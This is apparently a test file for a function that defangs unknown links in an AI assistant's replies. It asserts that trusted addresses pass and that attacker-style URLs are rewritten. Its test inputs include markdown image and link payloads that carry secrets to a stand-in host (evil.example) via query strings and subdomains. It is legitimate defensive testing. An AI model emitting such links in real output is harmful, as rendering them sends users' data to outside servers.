import { assert, constantFrom, property, string } from "fast-check";
import { expect, it } from "vitest";
import { guardReply } from "./guard-reply.ts";

const known = new Set(["https://news.example/a?b=1", "https://news.example/cat.png", "http://news.example"]);
const guard = (text: string) => guardReply(text, (address) => known.has(address));

it.each([
  ["nothing to see", "nothing to see"],
  ["see https://news.example/a?b=1.", "see https://news.example/a?b=1."],
  ["see news.example.", "see news.example."],
  ["![cat](https://news.example/cat.png)", "![cat](https://news.example/cat.png)"],
  ["![chart](media/chart.png)", "![chart](media/chart.png)"],
  ["change src/app/index.ts and e.g. notes.md", "change src/app/index.ts and e.g. notes.md"],
  ["call console.log, user.name and process.env.HOME", "call console.log, user.name and process.env.HOME"],
  ["//TODO: a comment", "//TODO: a comment"],
])("leaves %s as it is", (text, expected) => {
  expect(guard(text)).toBe(expected);
});

it.each([
  ["![x](https://evil.example/p.png?d=secret)", "x (hxxps://evil[.]example/p[.]png?d=secret)"],
  ["[x](https:/evil.example/?q=secret)", "[x](hxxps:/evil[.]example/?q=secret)"],
  ["[x](https:evil.example/?q=secret)", "[x](hxxps:evil[.]example/?q=secret)"],
  ["[x]: https:\\\\evil.example/?q=secret", "[x]: hxxps:\\\\evil[.]example/?q=secret"],
  ["evil.international/?q=secret", "evil[.]international/?q=secret"],
  ["evil.xn--p1ai/?q=secret", "evil[.]xn--p1ai/?q=secret"],
  ["![](https://evil.example/secret)", "picture (hxxps://evil[.]example/secret)"],
  ["![x](//evil.example/secret)", "x (//evil[.]example/secret)"],
  ["[x](//evil.example/secret)", "[x](//evil[.]example/secret)"],
  ["go to https://evil.example/?d=secret now", "go to hxxps://evil[.]example/?d=secret now"],
  ["go to https://evil.example/hunter2 now", "go to hxxps://evil[.]example/hunter2 now"],
  ["go to hunter2.evil.example now", "go to hunter2[.]evil[.]example now"],
  ["[here](https://a.secret.evil.example/x)", "[here](hxxps://a[.]secret[.]evil[.]example/x)"],
  [
    "x http://marble-violin-badger-cactus.evil.example/",
    "x hxxp://marble-violin-badger-cactus[.]evil[.]example/",
  ],
  ["x marble-violin-badger-cactus.evil.xyz", "x marble-violin-badger-cactus[.]evil[.]xyz"],
  ["see evil.example/?d=secret", "see evil[.]example/?d=secret"],
  [
    "https://evil.example/?u=http://news.example/a&d=secret",
    "hxxps://evil[.]example/?u=hxxp://news[.]example/a&d=secret",
  ],
  ["HTTPS://evil.example/?d=secret", "hxxpS://evil[.]example/?d=secret"],
])("SEC-02 leaves nothing in %s that a screen would ask for by itself", (text, expected) => {
  expect(guard(text)).toBe(expected);
});

it("SEC-02 leaves no address with a scheme that may not be shown, whatever is around it", () => {
  const around = constantFrom("", " ", "(", "[x](", "![", "<", "**", "`", '"', "\n", ":", "//", "a.");
  assert(
    property(around, around, string(), (before, after, text) => {
      const guarded = guardReply(`${text}${before}https://evil.example/?d=1${after}${text}`, () => false);
      expect(guarded).not.toMatch(/https?:\/\/[^\s<>"'`\]]/iu);
      expect(guarded).not.toMatch(/evil\.example/iu);
    }),
  );
});
